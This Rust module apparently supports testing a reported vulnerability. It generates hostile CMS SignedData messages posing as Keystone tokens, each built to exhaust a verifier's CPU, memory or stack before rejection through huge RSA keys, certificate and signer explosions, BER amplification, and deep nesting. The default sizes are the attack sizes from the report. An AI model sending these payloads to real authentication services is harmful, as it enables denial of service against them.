//! Hostile CMS SignedData messages for cmsverify: every message is what an
//! attacker can send as a Keystone token, built to make a verifier do as much
//! work (CPU or memory) as possible *before* it can reject the message. No
//! signature is valid (no cryptography is needed): the point is the work done
//! on the way to the rejection.
//!
//! Every class is one function with its knobs as parameters; the `DEFAULT_*`
//! constants are the attack sizes of the issue report. All functions return a
//! DER (or, for [`ber_amplification`] and indefinite [`deep_nesting`], BER)
//! `ContentInfo` of type SignedData; [`encode`] wraps it as PEM, PKI token or
//! PKIZ token.
//!
//! | class | function | what it attacks |
//! |---|---|---|
//! | a | [`huge_modulus_issuer`], [`huge_exponent_issuer`] | RSA key parsing and precomputation of an embedded issuer certificate's key, before any size check |
//! | b | [`candidate_explosion`] | signer candidates x same-name issuers x SignerInfos: one RSA operation with a large key each |
//! | c | [`ber_amplification`] | the BER to DER normaliser: millions of empty segments of nested constructed OCTET STRINGs, from a ~22 KB PKIZ token |
//! | d | [`many_certificates`] | certificate parsing (and hashing) before the certificate-count limit |
//! | e | [`many_signer_infos`], [`many_signed_attributes`] | SignerInfo and attribute parsing and checking |
//! | f | [`deep_nesting`] | recursive decoders (stack) and nesting limits |
//!
//! Every SignerInfo names one signer by issuer and serial number ([`Sid`]).
//! With [`Sid::from_certificate`] of the real Keystone signing certificate,
//! the verifier also finds that certificate in its certfile, validates its path
//! and reaches the signature check (more work); with [`Sid::default`] it
//! finds only what the message embeds.

pub mod der;
pub mod encode;
mod recipe;

pub use recipe::{name, BerShape, Content, Nesting, Recipe, RsaKey};

use der::tag;

/// The signer identifier (`issuerAndSerialNumber`) of every SignerInfo.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sid {
    /// The DER issuer Name.
    pub issuer: Vec<u8>,
    /// The serial number's magnitude, big-endian.
    pub serial: Vec<u8>,
}

impl Default for Sid {
    /// A made-up signer: issuer `CN=cmsverify attack issuer`, serial 1.
    fn default() -> Self {
        Self {
            issuer: name("cmsverify attack issuer"),
            serial: vec![1],
        }
    }
}

impl Sid {
    /// The issuer and serial of a DER X.509 certificate; `None` if `der` is
    /// not shaped like one.
    pub fn from_certificate(der: &[u8]) -> Option<Self> {
        let (_, cert, _) = der::split(der)?;
        let (_, tbs, _) = der::split(cert)?;
        let (first, _, after_version) = der::split(tbs)?;
        let rest = if first.tag == tag::CTX0 {
            after_version
        } else {
            tbs
        };
        let (_, serial, rest) = der::split(rest)?;
        let (_, _, rest) = der::split(rest)?; // signature algorithm
        let (h, _, after) = der::split(rest)?;
        (h.tag == tag::SEQUENCE).then(|| Self {
            issuer: rest[..rest.len() - after.len()].to_vec(),
            serial: serial[serial.iter().take_while(|&&b| b == 0).count()..].to_vec(),
        })
    }
}

/// Class a: 1 Mibit, the largest modulus of [`huge_modulus_issuer`] in the report.
pub const DEFAULT_HUGE_MODULUS_BYTES: usize = 131_072;
/// A modulus of exactly 16384 bits, OpenSSL's `OPENSSL_RSA_MAX_MODULUS_BITS`.
pub const RSA_16384_BITS_BYTES: usize = 2048;
/// A modulus of 16392 bits, just over OpenSSL's limit.
pub const RSA_16392_BITS_BYTES: usize = 2049;

/// Class a: one embedded signer certificate matching `sid`, issued (by name)
/// by one embedded certificate whose RSA modulus is `modulus_bytes` bytes of
/// 0xFF (default [`DEFAULT_HUGE_MODULUS_BYTES`]); checking the signer
/// certificate's signature means parsing, and perhaps precomputing, that key.
pub fn huge_modulus_issuer(sid: &Sid, modulus_bytes: usize) -> Vec<u8> {
    huge_exponent_issuer(sid, modulus_bytes, 0)
}

/// Class a, exponent variant: a 16384-bit exponent (2048 bytes of 0xFF).
pub const DEFAULT_HUGE_EXPONENT_BYTES: usize = 2048;

/// Class a with a huge public exponent: like [`huge_modulus_issuer`], the
/// issuer key's exponent being `exponent_bytes` bytes of 0xFF (0 means
/// 65537; default [`DEFAULT_HUGE_EXPONENT_BYTES`]; 8 bytes is 2^64 - 1,
/// OpenSSL's largest for moduli over 3072 bits).
pub fn huge_exponent_issuer(sid: &Sid, modulus_bytes: usize, exponent_bytes: usize) -> Vec<u8> {
    let mut key = RsaKey::new(modulus_bytes);
    if exponent_bytes > 0 {
        key.exponent = vec![0xFF; exponent_bytes];
    }
    Recipe {
        sid: sid.clone(),
        candidates: 1,
        issuers: vec![key],
        ..Recipe::default()
    }
    .build()
}

/// Class b: signer candidates (certificates matching the signer identifier).
pub const DEFAULT_CANDIDATES: usize = 900;
/// Class b: same-name issuers, one under cmsverify's budget of 100 signature
/// checks per path search (exhausting it ends the whole verification), so
/// that every candidate gets its full search; 900 + 99 stays under the
/// 1024-certificate limit.
pub const DEFAULT_ISSUERS: usize = 99;
/// Class b: issuer modulus, 16384 bits (the largest the `rsa` crate accepts).
pub const DEFAULT_ISSUER_MODULUS_BYTES: usize = RSA_16384_BITS_BYTES;
/// Class b: SignerInfos (cmsverify's limit is 16).
pub const DEFAULT_SIGNERS: usize = 16;

/// Class b: `candidates` embedded certificates matching `sid` and `issuers`
/// same-name issuer certificates with distinct `issuer_modulus_bytes`-byte
/// RSA keys, named by `signer_infos` SignerInfos: up to
/// signers x candidates x issuers RSA operations with large keys.
pub fn candidate_explosion(
    sid: &Sid,
    candidates: usize,
    issuers: usize,
    issuer_modulus_bytes: usize,
    signer_infos: usize,
) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        candidates,
        issuers: vec![RsaKey::new(issuer_modulus_bytes); issuers],
        signer_infos,
        ..Recipe::default()
    }
    .build()
}

/// Class c: the eContent is the constructed OCTET STRING tree `shape`
/// (default [`BerShape::DEFAULT`]); it normalises to an empty string.
pub fn ber_amplification(sid: &Sid, shape: BerShape) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        content: Content::Ber(shape),
        ..Recipe::default()
    }
    .build()
}

/// Class d: embedded certificates, far over cmsverify's 1024 limit.
pub const DEFAULT_MANY_CERTIFICATES: usize = 5000;

/// Class d: `count` small distinct certificates (about 250 bytes each) embedded.
pub fn many_certificates(sid: &Sid, count: usize) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        fillers: count,
        ..Recipe::default()
    }
    .build()
}

/// Class e: SignerInfos, far over cmsverify's limit of 16.
pub const DEFAULT_MANY_SIGNER_INFOS: usize = 1000;

/// Class e: `count` identical SignerInfos naming `sid` (with a few signed attributes).
pub fn many_signer_infos(sid: &Sid, count: usize) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        signer_infos: count,
        signed_attributes: Some(0),
        ..Recipe::default()
    }
    .build()
}

/// Class e: signed attributes in one SignerInfo.
pub const DEFAULT_MANY_SIGNED_ATTRIBUTES: usize = 10_000;

/// Class e: one SignerInfo with contentType, messageDigest and `count` more
/// signed attributes (distinct OIDs, NULL values).
pub fn many_signed_attributes(sid: &Sid, count: usize) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        signed_attributes: Some(count),
        ..Recipe::default()
    }
    .build()
}

/// Class f: nested SEQUENCEs.
pub const DEFAULT_NESTING_DEPTH: usize = 10_000;

/// Class f: an unsigned attribute whose value is `depth` nested SEQUENCEs
/// (definite lengths, or indefinite when `indefinite`).
pub fn deep_nesting(sid: &Sid, depth: usize, indefinite: bool) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        nested_attribute: Some(Nesting { depth, indefinite }),
        ..Recipe::default()
    }
    .build()
}

#[cfg(test)]
mod tests;
